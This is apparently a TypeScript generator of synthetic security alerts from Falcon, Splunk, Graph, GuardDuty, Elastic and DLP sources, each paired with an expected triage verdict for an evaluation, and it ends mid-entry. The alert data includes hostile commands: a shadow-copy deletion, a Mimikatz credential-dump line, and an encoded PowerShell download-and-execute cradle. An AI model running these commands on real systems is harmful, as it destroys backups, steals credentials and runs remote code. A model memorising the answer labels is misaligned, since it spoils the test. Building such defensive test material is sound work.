import {
  badDomain,
  badHash,
  badIpIntel,
  corpEgress,
  goodDomain,
  goodHash,
  torExit,
  type IntelEntry,
  type Scenario,
} from './case.ts';
import { BAD_DOMAINS, GOOD_DOMAINS, badIp, corpIp, person, unknownIp, type Rng } from './random.ts';

const sha256 = (r: Rng) => r.hex(64);
const host = (r: Rng, t: { org: string }) =>
  `${t.org.slice(0, 3).toUpperCase()}-${r.pick(['WS', 'LT', 'SRV'])}-${String(r.int(1, 999)).padStart(3, '0')}`;

/** A Falcon streaming API DetectionSummaryEvent. */
function falconDetection(
  r: Rng,
  o: {
    host: string;
    user: string;
    severity: number;
    name: string;
    description: string;
    file: string;
    cmd: string;
    hash: string;
    tactic: string;
    technique: string;
    techniqueId: string;
    disposition: string;
  },
): Record<string, unknown> {
  const when = Date.parse(r.time());
  const sensor = r.hex(32);
  return {
    metadata: {
      customerIDString: r.hex(32),
      offset: r.int(100000, 9999999),
      eventType: 'DetectionSummaryEvent',
      eventCreationTime: when,
      version: '1.0',
    },
    event: {
      ProcessStartTime: Math.floor(when / 1000) - r.int(5, 60),
      ProcessEndTime: 0,
      ProcessId: r.int(1e10, 9e10),
      ParentProcessId: r.int(1e10, 9e10),
      ComputerName: o.host,
      UserName: o.user,
      DetectName: o.name,
      DetectDescription: o.description,
      Severity: o.severity,
      SeverityName: ['Informational', 'Low', 'Medium', 'High', 'Critical'][o.severity - 1],
      FileName: o.file,
      FilePath: `\\Device\\HarddiskVolume3\\Users\\${o.user.split('\\').pop()}\\AppData\\Local\\Temp`,
      CommandLine: o.cmd,
      SHA256String: o.hash,
      MD5String: r.hex(32),
      MachineDomain: 'CORP',
      FalconHostLink: `https://falcon.crowdstrike.com/activity/detections/detail/${sensor}/${r.int(1e9, 9e9)}`,
      SensorId: sensor,
      DetectId: `ldt:${sensor}:${r.int(1e9, 9e9)}`,
      LocalIP: `10.${r.int(0, 40)}.${r.int(0, 255)}.${r.int(2, 254)}`,
      Tactic: o.tactic,
      Technique: o.technique,
      TechniqueId: o.techniqueId,
      Objective: 'Falcon Detection Method',
      PatternDispositionDescription: o.disposition,
    },
  };
}

export const FALCON_DETECTIONS: Array<[string, number, Scenario]> = [
  [
    'ransomware',
    2,
    (r, t) => {
      const h = sha256(r);
      const u = person(r, t);
      return {
        source: 'crowdstrike',
        note: 'ransomware behaviour with a known ransomware hash',
        expected: { classification: 'malicious', incident_type: 'ransomware' },
        intel: [badHash(h, r.pick(['LockBit 3.0', 'BlackCat', 'Akira']))],
        payload: falconDetection(r, {
          host: host(r, t),
          user: `CORP\\${u.first}.${u.last}`,
          severity: 5,
          name: 'Ransomware',
          description:
            'A process associated with ransomware attempted to encrypt files and delete volume shadow copies.',
          file: r.pick(['svchost32.exe', 'invoice_viewer.exe', 'update.exe']),
          cmd: 'vssadmin delete shadows /all /quiet',
          hash: h,
          tactic: 'Impact',
          technique: 'Data Encrypted for Impact',
          techniqueId: 'T1486',
          disposition: 'Prevention, process killed.',
        }),
      };
    },
  ],
  [
    'cred-dump',
    2,
    (r, t, n) => {
      const h = sha256(r);
      return {
        source: n === 0 ? 'crowdstrike' : 'falcon',
        note: 'LSASS dumped with a known Mimikatz build',
        expected: { classification: 'malicious', incident_type: 'malware' },
        intel: [badHash(h, 'Mimikatz')],
        payload: falconDetection(r, {
          host: `DC-0${r.int(1, 4)}`,
          user: `CORP\\svc_${r.pick(['backup', 'sql', 'deploy'])}`,
          severity: 4,
          name: 'Credential Dumping',
          description: 'A process accessed LSASS memory in a way consistent with credential theft.',
          file: 'mimi.exe',
          cmd: 'mimi.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
          hash: h,
          tactic: 'Credential Access',
          technique: 'OS Credential Dumping',
          techniqueId: 'T1003',
          disposition: 'Detection, standard detection.',
        }),
      };
    },
  ],
  [
    'high-no-intel',
    2,
    (r, t) => {
      const u = person(r, t);
      return {
        source: 'crowdstrike',
        note: 'Falcon high-severity behavioural detection (encoded PowerShell from Office): treat as an intrusion',
        expected: { classification: 'malicious', incident_type: 'malware' },
        payload: falconDetection(r, {
          host: host(r, t),
          user: `CORP\\${u.first}.${u.last}`,
          severity: 4,
          name: 'Malicious PowerShell from Office',
          description:
            'Office application spawned PowerShell with an encoded command that downloads a payload.',
          file: 'powershell.exe',
          cmd: `powershell.exe -nop -w hidden -enc ${Buffer.from(`iex(iwr http://${unknownIp(r)}/a)`).toString('base64')}`,
          hash: sha256(r),
          tactic: 'Execution',
          technique: 'PowerShell',
          techniqueId: 'T1059.001',
          disposition: 'Prevention, process killed.',
        }),
      };
    },
  ],
  [
    'medium-no-intel',
    2,
    (r, t) => {
      const u = person(r, t);
      return {
        source: 'crowdstrike',
        note: 'medium Falcon detection, nothing known about the file: investigate',
        expected: { classification: 'suspicious', incident_type: 'malware' },
        payload: falconDetection(r, {
          host: host(r, t),
          user: `CORP\\${u.first}.${u.last}`,
          severity: 3,
          name: r.pick(['Suspicious Scheduled Task', 'Suspicious Script Execution']),
          description: 'A script interpreter ran a file from a user-writable directory.',
          file: r.pick(['wscript.exe', 'mshta.exe']),
          cmd: `wscript.exe C:\\Users\\${u.first}\\Downloads\\${r.hex(6)}.js`,
          hash: sha256(r),
          tactic: 'Execution',
          technique: 'Command and Scripting Interpreter',
          techniqueId: 'T1059',
          disposition: 'Detection, standard detection.',
        }),
      };
    },
  ],
  [
    'medium-bad-hash',
    1,
    (r, t) => {
      const u = person(r, t);
      const h = sha256(r);
      return {
        source: 'crowdstrike',
        note: 'medium detection but the file is a known infostealer',
        expected: { classification: 'malicious', incident_type: 'malware' },
        intel: [badHash(h, 'RedLine stealer')],
        payload: falconDetection(r, {
          host: host(r, t),
          user: `CORP\\${u.first}.${u.last}`,
          severity: 3,
          name: 'Machine Learning',
          description:
            'This file meets the machine learning-based on-sensor AV protection medium confidence threshold.',
          file: `${r.hex(8)}.exe`,
          cmd: `C:\\Users\\${u.first}\\Downloads\\setup_crack.exe`,
          hash: h,
          tactic: 'Machine Learning',
          technique: 'Sensor-based ML',
          techniqueId: 'T1204',
          disposition: 'Prevention, file quarantined.',
        }),
      };
    },
  ],
  [
    'approved-tool',
    3,
    (r, t, n) => {
      const h = sha256(r);
      const table: Array<[string, string, string, string]> = [
        [
          'Suspicious Activity',
          'PsExec64.exe',
          'PsExec64.exe \\\\SRV-APP-01 -s cmd /c ipconfig',
          'Sysinternals PsExec (IT)',
        ],
        ['Machine Learning', 'inventory-agent.exe', 'inventory-agent.exe --scan', 'asset inventory agent'],
        [
          'Suspicious Activity',
          'procmon64.exe',
          'procmon64.exe /AcceptEula /Quiet',
          'Sysinternals Process Monitor',
        ],
      ];
      const [name, file, cmd, what] = table[n]!;
      return {
        source: 'crowdstrike',
        note: `detection on an approved admin tool (${what}) run by IT`,
        expected: { classification: 'benign', incident_type: 'malware' },
        intel: [goodHash(h, what)],
        payload: falconDetection(r, {
          host: host(r, t),
          user: 'CORP\\it.admin',
          severity: 2,
          name,
          description: 'A process ran that matches a tool commonly used by attackers.',
          file,
          cmd,
          hash: h,
          tactic: 'Execution',
          technique: 'System Services',
          techniqueId: 'T1569',
          disposition: 'Detection, standard detection.',
        }),
      };
    },
  ],
];

/** A Splunk webhook alert action body. */
function splunk(r: Rng, result: Record<string, unknown>, search: string): Record<string, unknown> {
  const sid = `scheduler__admin__${r.hex(24)}_at_${r.int(1718000000, 1718900000)}_${r.int(100, 999)}`;
  return {
    result: { _time: String(Date.parse(r.time()) / 1000), ...result },
    sid,
    results_link: `https://splunk.corp.local:8000/app/search/search?sid=${sid}`,
    search_name: search,
    owner: 'admin',
    app: 'SplunkEnterpriseSecuritySuite',
  };
}

export const SPLUNK: Array<[string, number, Scenario]> = [
  [
    'brute-force-bad',
    2,
    (r) => {
      const ip = badIp(r);
      return {
        source: 'splunk',
        note: 'VPN brute force from a Tor exit, one success',
        expected: { classification: 'malicious', incident_type: 'suspicious_login' },
        intel: [torExit(ip)],
        payload: splunk(
          r,
          {
            event_id: `${r.uuid().toUpperCase()}@@notable@@${r.hex(32)}`,
            rule_name: 'Brute Force Access Behavior Detected',
            rule_title: `Brute Force Access Behavior Detected From ${ip}`,
            urgency: 'high',
            severity: 'high',
            security_domain: 'access',
            src: ip,
            dest: 'vpn-gw-01',
            user: ['svc_vpn', 'administrator'],
            app: 'ssh',
            failure: String(r.int(300, 3000)),
            success: '1',
            'annotations.mitre_attack': ['T1110'],
          },
          'Access - Brute Force Access Behavior Detected - Rule',
        ),
      };
    },
  ],
  [
    'malware-download',
    2,
    (r) => {
      const d = r.pick(BAD_DOMAINS);
      const ip = `10.${r.int(0, 40)}.${r.int(0, 255)}.${r.int(2, 254)}`;
      return {
        source: 'splunk',
        note: 'proxy logged a download from a listed malware domain',
        expected: { classification: 'malicious', incident_type: 'malware' },
        intel: [badDomain(d)],
        payload: splunk(
          r,
          {
            rule_name: 'Malware download from known-bad domain',
            urgency: 'high',
            security_domain: 'threat',
            src: ip,
            url: `https://${d}/dl/${r.hex(8)}.exe`,
            dest: d,
            category: 'malware',
            http_user_agent: 'Mozilla/5.0',
          },
          'Threat - Malware Download - Rule',
        ),
      };
    },
  ],
  [
    'dns-resolver',
    3,
    (r, t) => {
      const u = person(r, t);
      return {
        source: 'splunk',
        note: 'workstation used a public resolver for well-known names: policy noise',
        expected: { classification: 'benign' },
        intel: [
          { type: 'ipv4', value: '8.8.8.8', verdict: 'benign', list: 'public-resolvers' },
          goodDomain(r.pick(GOOD_DOMAINS)),
        ],
        payload: splunk(
          r,
          {
            src: `10.${r.int(0, 40)}.${r.int(0, 255)}.${r.int(2, 254)}`,
            dest: '8.8.8.8',
            dest_port: '53',
            query: r.pick(GOOD_DOMAINS),
            user: `CORP\\${u.first}.${u.last}`,
            count: String(r.int(5, 80)),
            urgency: 'low',
            sourcetype: 'stream:dns',
            security_domain: 'network',
            rule_description:
              'Workstation resolved names through a public resolver instead of the corporate DNS servers.',
          },
          'Policy - DNS queries to external resolver',
        ),
      };
    },
  ],
  [
    'scanner',
    2,
    (r, t) => {
      const ip = corpIp(r, t);
      return {
        source: 'splunk',
        note: "the SOC's own vulnerability scanner sweeping the DMZ",
        expected: { classification: 'benign', incident_type: 'reconnaissance' },
        intel: [
          {
            type: 'ipv4',
            value: ip,
            verdict: 'benign',
            list: 'internal-scanners',
            description: 'Nessus scanner',
          },
        ],
        payload: splunk(
          r,
          {
            rule_name: 'Network Port Scan Detected',
            urgency: 'medium',
            security_domain: 'network',
            src: ip,
            dest_count: String(r.int(200, 900)),
            dest_port_count: String(r.int(50, 1000)),
            category: 'scan',
          },
          'Network - Port Scan - Rule',
        ),
      };
    },
  ],
  [
    'exfil',
    2,
    (r, t, n) => {
      const d =
        n === 0
          ? `${r.hex(6)}.${r.pick(['transfer.sh', 'anonfiles.io', 'mega-upload.cc'])}`
          : `files.${r.hex(5)}-share.net`;
      const u = person(r, t);
      const intel: IntelEntry[] =
        n === 0
          ? [
              {
                type: 'domain',
                value: d.split('.').slice(1).join('.'),
                verdict: 'suspicious',
                list: 'file-sharing-abuse',
              },
            ]
          : [];
      return {
        source: 'splunk',
        note:
          n === 0
            ? 'large upload to a file-sharing service abused for exfiltration'
            : 'large upload to a domain nobody knows: not enough to call',
        expected: {
          classification: n === 0 ? 'suspicious' : 'inconclusive',
          incident_type: 'data_exfiltration',
        },
        intel,
        payload: splunk(
          r,
          {
            rule_name: 'Unusual Volume of Data Transfer',
            urgency: 'medium',
            security_domain: 'network',
            src: `10.${r.int(0, 40)}.${r.int(0, 255)}.${r.int(2, 254)}`,
            user: `${u.email}`,
            dest: d,
            url: `https://${d}/upload`,
            bytes_out: String(r.int(2e9, 9e9)),
          },
          'Network - Unusual Volume of Data Transfer - Rule',
        ),
      };
    },
  ],
  [
    'generic-medium',
    3,
    (r) => {
      const ip = unknownIp(r);
      return {
        source: 'splunk',
        note: 'medium notable about an address nobody knows: nothing to decide on',
        expected: { classification: 'inconclusive' },
        payload: splunk(
          r,
          {
            rule_name: 'Outbound connection on unusual port',
            urgency: 'medium',
            security_domain: 'network',
            src: `10.${r.int(0, 40)}.${r.int(0, 255)}.${r.int(2, 254)}`,
            dest: ip,
            dest_port: String(r.pick([4444, 8443, 9001, 6667])),
          },
          'Network - Unusual Port - Rule',
        ),
      };
    },
  ],
];

/** A Microsoft Graph security alert v2. */
function graphAlert(
  r: Rng,
  o: {
    title: string;
    description: string;
    severity: string;
    category: string;
    service: string;
    techniques: string[];
    evidence: unknown[];
  },
): Record<string, unknown> {
  const id = `da${r.hex(30)}_${r.int(1, 9)}`;
  const when = r.time();
  return {
    '@odata.type': '#microsoft.graph.security.alert',
    id,
    providerAlertId: id.split('_')[0],
    incidentId: String(r.int(1000, 99999)),
    status: 'new',
    severity: o.severity,
    classification: null,
    determination: null,
    serviceSource: o.service,
    detectionSource: o.service,
    tenantId: r.uuid(),
    title: o.title,
    description: o.description,
    category: o.category,
    alertWebUrl: `https://security.microsoft.com/alerts/${id}`,
    mitreTechniques: o.techniques,
    createdDateTime: when,
    lastUpdateDateTime: when,
    firstActivityDateTime: when,
    evidence: o.evidence,
  };
}

export const GRAPH: Array<[string, number, Scenario]> = [
  [
    'phish-bad-url',
    4,
    (r, t) => {
      const d = r.pick(BAD_DOMAINS);
      const u = person(r, t);
      const url = `https://${d}/${r.pick(['owa/auth', 'sign/doc', 'verify'])}?s=${r.hex(6)}`;
      return {
        source: 'microsoft-graph',
        note: 'phishing mail with a link to a listed phishing domain, delivered',
        expected: { classification: 'malicious', incident_type: 'phishing' },
        intel: [badDomain(d)],
        payload: graphAlert(r, {
          title: 'Email messages containing malicious URL removed after delivery',
          description: 'Emails with a malicious URL that were delivered and later removed.',
          severity: 'high',
          category: 'InitialAccess',
          service: 'microsoftDefenderForOffice365',
          techniques: ['T1566.002'],
          evidence: [
            {
              '@odata.type': '#microsoft.graph.security.analyzedMessageEvidence',
              subject: r.pick([
                'Action required: password expires today',
                'Shared document: Q2 bonus',
                'Invoice #' + r.int(1000, 9999),
              ]),
              senderIp: badIp(r),
              recipientEmailAddress: u.email,
              deliveryAction: 'Delivered',
              urls: [url],
              p1Sender: { emailAddress: `no-reply@${d}`, domainName: d },
              p2Sender: { emailAddress: `no-reply@${d}`, domainName: d },
            },
            { '@odata.type': '#microsoft.graph.security.urlEvidence', url },
            {
              '@odata.type': '#microsoft.graph.security.mailboxEvidence',
              primaryAddress: u.email,
              userAccount: { userPrincipalName: u.email, accountName: u.first },
            },
          ],
        }),
      };
    },
  ],
  [
    'endpoint-malware',
    2,
    (r, t) => {
      const h = sha256(r);
      const u = person(r, t);
      return {
        source: 'defender',
        note: 'Defender for Endpoint: a file whose hash is a known trojan',
        expected: { classification: 'malicious', incident_type: 'malware' },
        intel: [badHash(h, 'Qakbot')],
        payload: graphAlert(r, {
          title: `'${r.pick(['Qakbot', 'Emotet', 'IcedID'])}' malware was detected`,
          description: 'Malware was detected on the device.',
          severity: 'high',
          category: 'Malware',
          service: 'microsoftDefenderForEndpoint',
          techniques: ['T1204.002'],
          evidence: [
            {
              '@odata.type': '#microsoft.graph.security.fileEvidence',
              fileDetails: { sha256: h, fileName: `${r.hex(6)}.dll` },
            },
            {
              '@odata.type': '#microsoft.graph.security.deviceEvidence',
              deviceDnsName: `${host(r, t).toLowerCase()}.corp.local`,
              loggedOnUsers: [{ accountName: u.first, domainName: 'CORP' }],
            },
          ],
        }),
      };
    },
  ],
  [
    'risky-signin',
    2,
    (r, t, n) => {
      const u = person(r, t);
      const ip = n === 0 ? badIp(r) : unknownIp(r);
      return {
        source: 'microsoft-graph',
        note:
          n === 0
            ? 'anonymous-IP sign-in from a listed Tor exit'
            : 'Entra ID Protection: unfamiliar sign-in properties, nothing else known',
        expected: { classification: n === 0 ? 'malicious' : 'suspicious', incident_type: 'suspicious_login' },
        ...(n === 0 ? { intel: [torExit(ip)] } : {}),
        payload: graphAlert(r, {
          title: n === 0 ? 'Anonymous IP address' : 'Unfamiliar sign-in properties',
          description: 'Sign-in with unusual properties for this user.',
          severity: 'medium',
          category: 'InitialAccess',
          service: 'azureAdIdentityProtection',
          techniques: ['T1078'],
          evidence: [
            {
              '@odata.type': '#microsoft.graph.security.userEvidence',
              userAccount: { userPrincipalName: u.email, accountName: u.first },
            },
            { '@odata.type': '#microsoft.graph.security.ipEvidence', ipAddress: ip },
          ],
        }),
      };
    },
  ],
  [
    'clicked-safe',
    2,
    (r, t) => {
      const u = person(r, t);
      const d = `${t.org.toLowerCase()}.sharepoint.com`;
      return {
        source: 'microsoft-graph',
        note: "'potentially malicious URL click' on the company's own SharePoint",
        expected: { classification: 'benign', incident_type: 'phishing' },
        intel: [goodDomain(d)],
        payload: graphAlert(r, {
          title: 'A potentially malicious URL click was detected',
          description: 'A user clicked a URL that was later flagged.',
          severity: 'informational',
          category: 'InitialAccess',
          service: 'microsoftDefenderForOffice365',
          techniques: [],
          evidence: [
            {
              '@odata.type': '#microsoft.graph.security.urlEvidence',
              url: `https://${d}/sites/Team/Shared%20Documents/${r.hex(5)}.docx`,
            },
            { '@odata.type': '#microsoft.graph.security.mailboxEvidence', primaryAddress: u.email },
          ],
        }),
      };
    },
  ],
];

/** An EventBridge GuardDuty finding. */
function guardDuty(
  r: Rng,
  o: {
    type: string;
    severity: number;
    title: string;
    description: string;
    action: Record<string, unknown>;
    resource?: Record<string, unknown>;
  },
): Record<string, unknown> {
  const id = r.hex(32);
  const acct = String(r.int(1e11, 9e11));
  return {
    version: '0',
    id: r.uuid(),
    'detail-type': 'GuardDuty Finding',
    source: 'aws.guardduty',
    account: acct,
    time: r.time(),
    region: 'eu-west-1',
    resources: [],
    detail: {
      schemaVersion: '2.0',
      accountId: acct,
      region: 'eu-west-1',
      partition: 'aws',
      id,
      arn: `arn:aws:guardduty:eu-west-1:${acct}:detector/${r.hex(32)}/finding/${id}`,
      type: o.type,
      resource: o.resource ?? {
        resourceType: 'Instance',
        instanceDetails: {
          instanceId: `i-0${r.hex(16)}`,
          instanceType: 't3.medium',
          networkInterfaces: [
            { privateIpAddress: `172.31.${r.int(0, 255)}.${r.int(2, 254)}`, publicIp: unknownIp(r) },
          ],
          tags: [{ key: 'Name', value: r.pick(['web-frontend-1', 'api-2', 'bastion']) }],
        },
      },
      service: {
        serviceName: 'guardduty',
        detectorId: r.hex(32),
        action: o.action,
        resourceRole: 'TARGET',
        archived: false,
        count: r.int(1, 400),
      },
      severity: o.severity,
      createdAt: r.time(),
      updatedAt: r.time(),
      title: o.title,
      description: o.description,
    },
  };
}
const netAction = (ip: string, port: number, dir = 'INBOUND') => ({
  actionType: 'NETWORK_CONNECTION',
  networkConnectionAction: {
    connectionDirection: dir,
    remoteIpDetails: { ipAddressV4: ip, organization: { asn: '208294', asnOrg: 'hosting' } },
    localPortDetails: { port, portName: port === 22 ? 'SSH' : 'Unknown' },
    protocol: 'TCP',
    blocked: false,
  },
});
const iamResource = (r: Rng, user: string) => ({
  resourceType: 'AccessKey',
  accessKeyDetails: {
    accessKeyId: `AKIA${r.hex(16).toUpperCase()}`,
    principalId: `AIDA${r.hex(16).toUpperCase()}`,
    userName: user,
    userType: 'IAMUser',
  },
});

export const GUARDDUTY: Array<[string, number, Scenario]> = [
  [
    'ssh-brute-tor',
    1,
    (r) => {
      const ip = badIp(r);
      return {
        source: 'guardduty',
        note: 'SSH brute force from a Tor exit against an instance',
        expected: { classification: 'malicious', incident_type: 'suspicious_login' },
        intel: [torExit(ip)],
        payload: guardDuty(r, {
          type: 'UnauthorizedAccess:EC2/SSHBruteForce',
          severity: 5,
          title: `${ip} is performing SSH brute force attacks against an instance.`,
          description:
            'Brute force attacks are used to gain unauthorized access to your instance by guessing the SSH password.',
          action: netAction(ip, 22),
        }),
      };
    },
  ],
  [
    'malicious-caller',
    3,
    (r, t) => {
      const ip = badIp(r);
      const u = person(r, t);
      return {
        source: 'guardduty',
        note: 'API calls with an access key from a listed address',
        expected: { classification: 'malicious', incident_type: 'suspicious_login' },
        intel: [badIpIntel(ip)],
        payload: guardDuty(r, {
          type: 'UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom',
          severity: 8,
          title: `API ListBuckets was invoked from an IP address on a custom threat list.`,
          description: 'An API was used to access a bucket from an IP address on a custom threat list.',
          resource: iamResource(r, u.first),
          action: {
            actionType: 'AWS_API_CALL',
            awsApiCallAction: {
              api: 'ListBuckets',
              serviceName: 's3.amazonaws.com',
              callerType: 'Remote IP',
              remoteIpDetails: { ipAddressV4: ip },
              userAgent: 'aws-cli/2.15.0 Python/3.11',
            },
          },
        }),
      };
    },
  ],
  [
    'port-probe',
    2,
    (r) => {
      const ip = unknownIp(r);
      return {
        source: 'guardduty',
        note: 'internet port probe of an open web port: background noise',
        expected: { classification: 'benign', incident_type: 'reconnaissance' },
        payload: guardDuty(r, {
          type: 'Recon:EC2/PortProbeUnprotectedPort',
          severity: 2,
          title: 'Unprotected port on EC2 instance is being probed.',
          description: `Port 443 is being probed by ${ip}.`,
          action: {
            actionType: 'PORT_PROBE',
            portProbeAction: {
              blocked: false,
              portProbeDetails: [
                { localPortDetails: { port: 443, portName: 'HTTPS' }, remoteIpDetails: { ipAddressV4: ip } },
              ],
            },
          },
        }),
      };
    },
  ],
  [
    'crypto-mining',
    1,
    (r) => {
      const d = `${r.pick(['xmr', 'pool', 'eu'])}.${r.pick(['minexmr-pool.com', 'nanopool-eu.org', 'supportxmr.net'])}`;
      return {
        source: 'guardduty',
        note: 'instance queries a cryptocurrency mining pool',
        expected: { classification: 'malicious', incident_type: 'malware' },
        intel: [
          {
            type: 'domain',
            value: d.split('.').slice(1).join('.'),
            verdict: 'malicious',
            list: 'mining-pools',
          },
        ],
        payload: guardDuty(r, {
          type: 'CryptoCurrency:EC2/BitcoinTool.B!DNS',
          severity: 8,
          title:
            'EC2 instance is querying a domain name that is associated with cryptocurrency-related activity.',
          description: `The instance is querying ${d}.`,
          action: {
            actionType: 'DNS_REQUEST',
            dnsRequestAction: { domain: d, protocol: 'UDP', blocked: false },
          },
        }),
      };
    },
  ],
  [
    'public-bucket',
    1,
    (r, t) => {
      const u = person(r, t);
      return {
        source: 'guardduty',
        note: 'S3 Block Public Access turned off on a bucket',
        expected: { classification: 'suspicious', incident_type: 'cloud_misconfiguration' },
        payload: guardDuty(r, {
          type: 'Policy:S3/BucketBlockPublicAccessDisabled',
          severity: 2,
          title: `Amazon S3 Block Public Access was disabled for S3 bucket ${t.org.toLowerCase()}-exports.`,
          description: 'The bucket now allows public access configuration.',
          resource: iamResource(r, u.first),
          action: {
            actionType: 'AWS_API_CALL',
            awsApiCallAction: {
              api: 'PutBucketPublicAccessBlock',
              serviceName: 's3.amazonaws.com',
              callerType: 'Remote IP',
              remoteIpDetails: { ipAddressV4: corpIp(r, t) },
            },
          },
        }),
      };
    },
  ],
  [
    'tor-client',
    1,
    (r) => {
      const ip = badIp(r);
      return {
        source: 'guardduty',
        note: 'instance talks to a Tor entry node: unusual for a server, investigate',
        expected: { classification: 'suspicious', incident_type: 'malware' },
        payload: guardDuty(r, {
          type: 'UnauthorizedAccess:EC2/TorClient',
          severity: 8,
          title: 'EC2 instance is communicating with Tor Entry nodes.',
          description: `The instance is communicating with ${ip}, a Tor entry node.`,
          action: netAction(ip, 9001, 'OUTBOUND'),
        }),
      };
    },
  ],
  [
    'scanner-outbound',
    2,
    (r, t) => {
      const ip = corpIp(r, t);
      return {
        source: 'guardduty',
        note: "the SOC's own scanner instance sweeping ports",
        expected: { classification: 'benign', incident_type: 'reconnaissance' },
        intel: [{ type: 'ipv4', value: ip, verdict: 'benign', list: 'internal-scanners' }],
        payload: guardDuty(r, {
          type: 'Recon:EC2/Portscan',
          severity: 5,
          title: 'EC2 instance is performing outbound port scans.',
          description: `Instance with IP ${ip} is scanning ports.`,
          action: netAction(ip, r.int(1000, 60000), 'OUTBOUND'),
        }),
      };
    },
  ],
];

/** An Elastic Security alert document (dotted keys, as the webhook connector sends them). */
function elastic(
  r: Rng,
  o: {
    rule: string;
    description: string;
    severity: string;
    risk: number;
    host: string;
    user: string;
    process: string;
    cmd: string;
    hash?: string;
    dest?: string;
    technique: [string, string];
  },
): Record<string, unknown> {
  return {
    '@timestamp': r.time(),
    'kibana.alert.uuid': r.hex(64),
    'kibana.alert.rule.name': o.rule,
    'kibana.alert.rule.description': o.description,
    'kibana.alert.rule.rule_id': r.uuid(),
    'kibana.alert.rule.threat': [
      {
        framework: 'MITRE ATT&CK',
        tactic: { id: 'TA0002', name: 'Execution' },
        technique: [{ id: o.technique[0], name: o.technique[1] }],
      },
    ],
    'kibana.alert.severity': o.severity,
    'kibana.alert.risk_score': o.risk,
    'kibana.alert.reason': `process event with process ${o.process} by ${o.user} on ${o.host} created ${o.severity} alert ${o.rule}.`,
    'kibana.alert.workflow_status': 'open',
    'event.kind': 'signal',
    'host.name': o.host,
    'user.name': o.user,
    'process.name': o.process,
    'process.command_line': o.cmd,
    ...(o.hash ? { 'process.hash.sha256': o.hash } : {}),
    ...(o.dest ? { 'destination.ip': o.dest } : {}),
  };
}

export const ELASTIC: Array<[string, number, Scenario]> = [
  [
    'office-child-bad',
    3,
    (r, t) => {
      const h = sha256(r);
      const u = person(r, t);
      return {
        source: 'elastic',
        note: 'Office spawned a known malicious loader',
        expected: { classification: 'malicious', incident_type: 'malware' },
        intel: [badHash(h, 'IcedID loader')],
        payload: elastic(r, {
          rule: 'Suspicious MS Office Child Process',
          description: 'Identifies suspicious child processes of Office applications.',
          severity: 'medium',
          risk: 47,
          host: host(r, t).toLowerCase(),
          user: u.first,
          process: 'rundll32.exe',
          cmd: `rundll32.exe C:\\Users\\${u.first}\\AppData\\Local\\Temp\\${r.hex(6)}.dll,DllRegisterServer`,
          hash: h,
          technique: ['T1218.011', 'Rundll32'],
        }),
      };
    },
  ],
  [
    'c2-connection',
    2,
    (r, t) => {
      const ip = badIp(r);
      const u = person(r, t);
      return {
        source: 'elastic',
        note: 'beaconing to a listed C2 address',
        expected: { classification: 'malicious', incident_type: 'malware' },
        intel: [badIpIntel(ip)],
        payload: elastic(r, {
          rule: 'Connection to Known C2 Infrastructure',
          description: 'A process connected to an address on a threat list.',
          severity: 'high',
          risk: 73,
          host: host(r, t).toLowerCase(),
          user: u.first,
          process: 'svchost.exe',
          cmd: 'svchost.exe -k netsvcs',
          dest: ip,
          technique: ['T1071', 'Application Layer Protocol'],
        }),
      };
    },
  ],
  [
    'admin-tool',
    2,
    (r, t) => {
      const h = sha256(r);
      return {
        source: 'elastic',
        note: 'IT runs an approved remote admin tool',
        expected: { classification: 'benign', incident_type: 'lateral_movement' },
        intel: [goodHash(h, 'approved remote admin tool')],
        payload: elastic(r, {
          rule: 'Remote Execution via PsExec',
          description: 'Identifies use of PsExec for remote execution (lateral movement).',
          severity: 'medium',
          risk: 47,
          host: host(r, t).toLowerCase(),
          user: 'it.admin',
          process: 'PsExec64.exe',
          cmd: 'PsExec64.exe \\\\srv-app-02 -s cmd /c gpupdate /force',
          hash: h,
          technique: ['T1021.002', 'SMB/Windows Admin Shares'],
        }),
      };
    },
  ],
  [
    'unknown-medium',
    2,
    (r, t) => {
      const u = person(r, t);
      return {
        source: 'elastic',
        note: 'medium rule on an unknown binary, no other context',
        expected: { classification: 'inconclusive' },
        payload: elastic(r, {
          rule: 'Unusual Parent-Child Relationship',
          description: 'Identifies an unusual parent process.',
          severity: 'medium',
          risk: 47,
          host: host(r, t).toLowerCase(),
          user: u.first,
          process: `${r.hex(6)}.exe`,
          cmd: `${r.hex(6)}.exe /silent`,
          hash: sha256(r),
          technique: ['T1055', 'Process Injection'],
        }),
      };
    },
  ],
];

export const GENERIC: Array<[string, number, Scenario]> = [
  [
    'dlp-bad',
    1,
    (r, t) => {
      const ip = badIp(r);
      const u = person(r, t);
      return {
        source: 'acme-dlp',
        note: 'bulk upload to a listed address',
        expected: { classification: 'malicious', incident_type: 'data_exfiltration' },
        intel: [badIpIntel(ip)],
        payload: {
          source: 'acme-dlp',
          alert_type: 'data_exfiltration',
          severity: 'HIGH',
          title: 'Large upload to unsanctioned destination',
          description: `${(r.int(20, 90) / 10).toFixed(1)} GB uploaded from ${host(r, t)}.`,
          timestamp: r.time(),
          tags: ['dlp'],
          data: {
            username: u.email,
            src_ip: `10.${r.int(0, 40)}.${r.int(0, 255)}.${r.int(2, 254)}`,
            dest_ip: ip,
            bytes_out: r.int(2e9, 9e9),
          },
        },
      };
    },
  ],
  [
    'dlp-box',
    2,
    (r, t) => {
      const u = person(r, t);
      return {
        source: 'acme-dlp',
        note: 'upload to the sanctioned corporate Box tenant',
        expected: { classification: 'benign', incident_type: 'data_exfiltration' },
        intel: [goodDomain('box.com')],
        payload: {
          source: 'acme-dlp',
          alert_type: 'data_exfiltration',
          severity: 'medium',
          title: 'Large upload to cloud storage',
          description: 'Upload over the 1 GB threshold.',
          timestamp: r.time(),
          data: {
            username: u.email,
            url: `https://${t.org.toLowerCase()}.app.box.com/folder/${r.int(1e9, 9e9)}`,
            bytes_out: r.int(1e9, 3e9),
          },
        },
      };
    },
  ],
  [
    'mail-phish',
    3,
    (r, t) => {
      const d = r.pick(BAD_DOMAINS);
      const u = person(r, t);
      return {
        source: 'mailguard',
        note: 'gateway flagged a credential-phish link on a listed domain',
        expected: { classification: 'malicious', incident_type: 'phishing' },
        intel: [badDomain(d)],
        payload: {
          alert_type: 'phishing',
          severity: 'high',
          title: 'Credential phishing link in inbound mail',
          description: `Message to ${u.email} links to https://${d}/login`,
          timestamp: r.time(),
          data: { sender: `security@${d}`, recipient: u.email, url: `https://${d}/login?u=${r.hex(8)}` },
        },
      };
    },
  ],
  [
    'mail-newsletter',
    2,
    (r, t) => {
